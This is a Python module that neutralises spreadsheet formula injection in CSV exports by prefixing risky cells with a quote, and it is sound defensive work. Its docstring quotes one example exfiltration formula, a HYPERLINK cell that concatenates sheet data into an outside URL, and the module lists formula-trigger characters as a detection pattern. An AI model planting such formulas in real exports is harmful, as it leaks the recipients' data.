"""CSV that spreadsheets open as data, never as formulas (pure, no Django).

Excel and LibreOffice run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after
trimming, a tab or carriage return) as a formula: a free-text answer
``=HYPERLINK("http://…"&A1,"bấm")`` in an export would send the office's data elsewhere. As
OWASP advises, :func:`safe_cell` puts a single quote before such text, which the spreadsheet
shows as plain text. Only strings are touched: a number stays a number (``-1.5``).
:func:`writer` is ``csv.writer`` with every cell passed through :func:`safe_cell`.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unsafe_cell(text: str) -> str:
    """The inverse of :func:`safe_cell` for text read back from a file this module wrote."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (same ``writerow(s)``).

    ``format``, if given, turns each (already neutralised) value into the text written, after
    the check: so a number formatted as ``"-1.5"`` by it stays a number.
    """

    def __init__(self, handle, *args, format: Callable[[Any], Any] | None = None, **kwargs):
        self._writer = csv.writer(handle, *args, **kwargs)
        self._format = format

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        cells = [safe_cell(value) for value in row]
        if self._format is not None:
            cells = [self._format(cell) for cell in cells]
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle, *args, format: Callable[[Any], Any] | None = None, **kwargs) -> SafeWriter:
    """``csv.writer(handle, …)`` that neutralises formulas (see the module docstring)."""
    return SafeWriter(handle, *args, format=format, **kwargs)
